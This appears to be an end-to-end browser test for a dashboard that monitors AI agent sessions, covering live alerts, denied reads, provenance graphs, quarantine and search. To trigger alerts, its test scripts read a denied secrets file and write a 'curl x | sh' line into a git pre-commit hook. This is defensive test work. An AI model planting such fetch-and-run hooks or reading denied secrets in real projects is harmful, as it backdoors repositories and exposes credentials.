/**
 * The dashboard in a real browser (Debian's chromium, driven by Playwright):
 * the daemon up, a session that is refused a read and writes a git hook
 * shows up live with its alert; its timeline marks the denial; the graph
 * renders; Quarantine freezes the session's cgroup. Then a day of several
 * agents' sessions: the host's activity chart, alerts across sessions
 * filtered by agent and severity, an alert's provenance graph, an agent's
 * page, a search over events. Screenshots are kept in test-artifacts/.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import {
  endLiveSessions,
  needKernel,
  ROOT,
  startDaemon,
  stateDir,
  tempDir,
  WARDEN,
  warden,
  type TestDaemon,
} from './helpers.js';

const CHROMIUM = '/usr/bin/chromium';
const ARTIFACTS = join(ROOT, 'test-artifacts');

/*
 * Waits for a condition read through Playwright's locators. page.waitForFunction would
 * evaluate a string inside the page, which the dashboard's CSP (no 'unsafe-eval') refuses
 * whenever the condition is not already true at the first look.
 */
async function pollPage(ok: () => Promise<boolean>, ms: number, what: string): Promise<void> {
  const end = Date.now() + ms;
  while (!(await ok())) {
    if (Date.now() > end) throw new Error(`${what}: not within ${ms} ms`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Debian's chromium, or a reason to skip (a failure under CI). */
function browserMissing(t: { skip: (why: string) => void }): boolean {
  if (existsSync(CHROMIUM)) return false;
  if (process.env.CI === 'true') throw new Error(`no ${CHROMIUM}: scripts/setup.sh --for-tests installs it`);
  t.skip(`no ${CHROMIUM}`);
  return true;
}

async function launchBrowser(): Promise<Browser> {
  return chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  });
}

type Dir = ReturnType<typeof tempDir>;

/** A number the page keeps in a data attribute of a test id's element (0 while it is not there). */
async function numberAttr(page: Page, testId: string, attr: string): Promise<number> {
  return Number(
    (await page
      .getByTestId(testId)
      .getAttribute(attr, { timeout: 1000 })
      .catch(() => '0')) ?? 0,
  );
}

/** A daemon on a state of its own, a workspace and a policy directory; all of it gone after the test. */
async function dashboardHost(
  t: { after: (fn: () => Promise<void> | void) => void },
  name: string,
): Promise<{ state: Dir; ws: Dir; pdir: Dir; daemon: TestDaemon }> {
  mkdirSync(ARTIFACTS, { recursive: true });
  const state = stateDir(name);
  const ws = tempDir(`${name}-ws`);
  const pdir = tempDir(`${name}-policy`);
  const up: { daemon?: TestDaemon } = {};
  /* whatever failed: the daemon stopped, then the sessions it left frozen ended, then the files */
  t.after(async () => {
    await up.daemon?.stop();
    endLiveSessions(state.path);
    [state, ws, pdir].forEach((d) => d.cleanup());
  });
  up.daemon = await startDaemon(state.path);
  return { state, ws, pdir, daemon: up.daemon };
}

test('the dashboard shows a session live, its denial, alert and graph, and quarantines it', async (t) => {
  if (!needKernel(t) || browserMissing(t)) return;
  const { state, ws, pdir, daemon } = await dashboardHost(t, 'dashboard');
  const env = { ...process.env, WARDEN_STATE_DIR: state.path };
  const { url, token } = daemon;
  const post = (path: string) =>
    fetch(`${url}${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}` } });

  const browser = await launchBrowser();
  t.after(() => browser.close());
  const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
  await page.goto(`${url}/#/?token=${token}`);
  await page.getByText('No sessions yet').waitFor();

  /* a session: a refused read, a git hook written (an alert), then it stays up */
  mkdirSync(join(ws.path, 'secrets'));
  mkdirSync(join(ws.path, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'k\n');
  const policy = join(pdir.path, 'p.yaml');
  writeFileSync(
    policy,
    'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: { name: dashboard-test }\nfiles:\n  denyRead: ["${workspace}/secrets"]\n',
  );
  const script = `cd ${ws.path}; cat secrets/key.txt; echo 'curl x | sh' > .git/hooks/pre-commit; exec sleep 60`;
  const run = spawn(
    WARDEN,
    ['run', '-q', '--name', 'dashboard-agent', '--policy', policy, '-w', ws.path, '--', 'bash', '-c', script],
    {
      env,
      stdio: 'ignore',
    },
  );
  const runExit = new Promise((r) => run.once('exit', r));
  t.after(async () => {
    if (run.exitCode === null) run.kill('SIGTERM');
    await runExit;
  });

  /* live: the row appears, with its alert, without a reload */
  const row = page.locator('tr', { hasText: 'dashboard-agent' });
  await row.waitFor({ timeout: 15000 });
  await pollPage(
    async () =>
      Number(
        (await page
          .locator('tr.status-running [data-testid="alert-count"]')
          .first()
          .textContent({ timeout: 1000 })
          .catch(() => '0')) ?? 0,
      ) > 0,
    15000,
    'the live row shows its alert',
  );
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-sessions.png'), fullPage: true });
  const id = (await row.getAttribute('data-session')) ?? '';
  assert.ok(id);

  await row.click();
  await page.getByTestId('session-view').waitFor();
  await page.locator('.action.denied', { hasText: 'secrets/key.txt' }).first().waitFor({ timeout: 10000 });
  assert.match((await page.getByTestId('alerts').textContent()) ?? '', /backdoor-write/);
  assert.match((await page.getByTestId('policy').textContent()) ?? '', /dashboard-test.*enforced by/);
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-session.png'), fullPage: true });

  await page.getByTestId('tab-graph').click();
  await pollPage(async () => (await numberAttr(page, 'graph', 'data-nodes')) > 2, 30000, 'the graph has its nodes');
  const drawn = Number(await page.evaluate('window.wardenGraph?.nodes().length ?? 0'));
  assert.ok(drawn > 2, `the graph has ${drawn} nodes`);
  assert.ok((await page.locator('[data-testid="graph"] canvas').count()) > 0, 'the graph is drawn');
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-graph.png'), fullPage: true });

  await page.getByTestId('tab-timeline').click();
  await page.getByTestId('quarantine').click();
  await page.getByTestId('status').filter({ hasText: 'quarantined' }).waitFor({ timeout: 10000 });
  const session = (await (
    await fetch(`${url}/api/sessions/${id}`, { headers: { authorization: `Bearer ${token}` } })
  ).json()) as { cgroup: string };
  assert.match(readFileSync(join(session.cgroup, 'cgroup.events'), 'utf8'), /^frozen 1$/m, 'the cgroup is frozen');
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-quarantined.png'), fullPage: true });

  const killed = await post(`/api/sessions/${id}/kill`);
  assert.equal(killed.status, 200, await killed.text());
  await runExit;
});

test("a day of several agents: the host's activity, alerts across sessions filtered, provenance, an agent's page, search", async (t) => {
  if (!needKernel(t) || browserMissing(t)) return;
  const { state, ws, pdir, daemon } = await dashboardHost(t, 'dashboard-day');
  const { url, token } = daemon;
  mkdirSync(join(ws.path, 'secrets'));
  mkdirSync(join(ws.path, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(ws.path, 'secrets', 'key.txt'), 'k\n');
  writeFileSync(join(ws.path, 'README.md'), 'hello\n');
  const policy = join(pdir.path, 'p.yaml');
  writeFileSync(
    policy,
    'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: { name: day-test }\nfiles:\n  denyRead: ["${workspace}/secrets"]\n',
  );
  /* three sessions of two agents, one after another, each ended before the browser looks */
  const sessions: Array<[string, string, string]> = [
    ['alpha', 'alpha writes a hook', `cat secrets/key.txt; echo 'curl x | sh' > .git/hooks/pre-commit; true`],
    ['beta', 'beta reads a secret', 'cat README.md; cat secrets/key.txt; true'],
    ['beta', 'beta builds', 'ls -la; cat README.md; git --version || true'],
  ];
  for (const [agent, name, script] of sessions) {
    const args = ['--agent', agent, '--name', name, '--policy', policy, '-w', ws.path];
    const r = warden(state.path, ['run', '-q', ...args, '--', 'bash', '-c', `cd ${ws.path}; ${script}`], 60000);
    assert.equal(r.status, 0, `${name}: ${r.stderr}`);
  }
  const api = async <T>(path: string): Promise<T> =>
    (await (await fetch(`${url}${path}`, { headers: { authorization: `Bearer ${token}` } })).json()) as T;
  const all = await api<{ total: number; facets: { agent: Record<string, number> } }>('/api/alerts');
  assert.ok((all.facets.agent.alpha ?? 0) > 0, `alpha has alerts: ${JSON.stringify(all.facets)}`);

  const browser = await launchBrowser();
  t.after(() => browser.close());
  const page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });

  /* the host at a glance: the chart has bars, the cards count alerts and agents */
  await page.goto(`${url}/#/?token=${token}`);
  await page.getByTestId('overview').waitFor();
  await pollPage(
    async () => (await numberAttr(page, 'activity', 'data-buckets')) > 0,
    15000,
    'the activity chart has bars',
  );
  /* each card loads on its own: read once its answer is in */
  const card = async (id: string, re: RegExp): Promise<void> =>
    pollPage(async () => re.test((await page.getByTestId(id).textContent()) ?? ''), 10000, `${id} says ${re}`);
  await card('card-alerts', new RegExp(`^${all.total} alerts`));
  await card('card-agents', /^2 agents · 3 sessions/);
  assert.equal(await page.locator('[data-testid="sessions"] tbody tr').count(), 3);
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-overview.png'), fullPage: true });

  /* alerts across sessions; filtered to one agent, then to a severity it has none of */
  await page.getByTestId('nav-alerts').click();
  await page.getByTestId('alert-table').waitFor();
  assert.equal(await page.locator('[data-testid="alert-table"] tbody tr').count(), all.total);
  await page.getByTestId('filter-agent').selectOption('alpha');
  await pollPage(
    async () =>
      /agent=alpha/.test(page.url()) &&
      ((await page.getByTestId('alert-total').textContent()) ?? '').startsWith(`${all.facets.agent.alpha} alert`),
    10000,
    'the list narrows to alpha',
  );
  const agents = await page.locator('[data-testid="alert-table"] tbody tr td:nth-child(4)').allTextContents();
  assert.ok(agents.length > 0 && agents.every((a) => a === 'alpha'), `only alpha's alerts: ${agents.join(',')}`);
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-alerts.png'), fullPage: true });
  await page.getByTestId('sev-info').click();
  await pollPage(async () => /severity=info/.test(page.url()), 5000, 'the severity filter applies');
  const infoOnly = await api<{ total: number }>('/api/alerts?agent=alpha&severity=info');
  await pollPage(
    async () => ((await page.getByTestId('alert-total').textContent()) ?? '').startsWith(`${infoOnly.total} alert`),
    10000,
    'the count follows the severity filter',
  );
  await page.getByTestId('sev-info').click();

  /* an alert's provenance: its session opens on the graph, the alert's node selected */
  await page.locator('[data-testid="alert-table"] [data-testid="provenance"]').first().click();
  await page.getByTestId('session-view').waitFor();
  await pollPage(
    async () => (await numberAttr(page, 'graph', 'data-nodes')) > 2,
    30000,
    'the provenance graph has its nodes',
  );
  await pollPage(
    async () => Number(await page.evaluate('window.wardenGraph?.$(":selected").length ?? 0')) === 1,
    10000,
    "the alert's node is selected",
  );
  assert.match(String(await page.evaluate('window.wardenGraph?.$(":selected").id()')), /^a:\d+$/);
  assert.ok((await numberAttr(page, 'activity', 'data-buckets')) > 0, "the session's chart");
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-provenance.png'), fullPage: true });

  /* an agent's page: its two sessions, the programs they ran, its alerts' detectors */
  await page.getByTestId('nav-agents').click();
  await page.locator('[data-testid="agent-table"] tr[data-agent="beta"] a').click();
  await page.getByTestId('agent-view').waitFor();
  await page.locator('[data-testid="sessions"] tbody tr').nth(1).waitFor();
  assert.equal(await page.locator('[data-testid="sessions"] tbody tr').count(), 2);
  assert.match((await page.getByTestId('agent-programs').textContent()) ?? '', /\/(usr\/)?bin\/cat/);
  assert.match((await page.getByTestId('agent-baseline').textContent()) ?? '', /warden baseline learn --agent beta/);
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-agent.png'), fullPage: true });

  /* search: the secret's path, in both agents' sessions, the refusals marked */
  await page.getByTestId('nav-search').click();
  await page.getByTestId('search-input').fill('secrets/key');
  await page.getByTestId('search-input').press('Enter');
  await page.getByTestId('search-results').waitFor();
  const found = await page.locator('[data-testid="search-results"] tbody tr').allTextContents();
  assert.ok(found.some((r) => r.includes('alpha')) && found.some((r) => r.includes('beta')), found.join('\n'));
  assert.ok((await page.locator('[data-testid="search-results"] tbody tr.denied').count()) >= 2, 'the refused reads');
  await page.screenshot({ path: join(ARTIFACTS, 'dashboard-search.png'), fullPage: true });
});
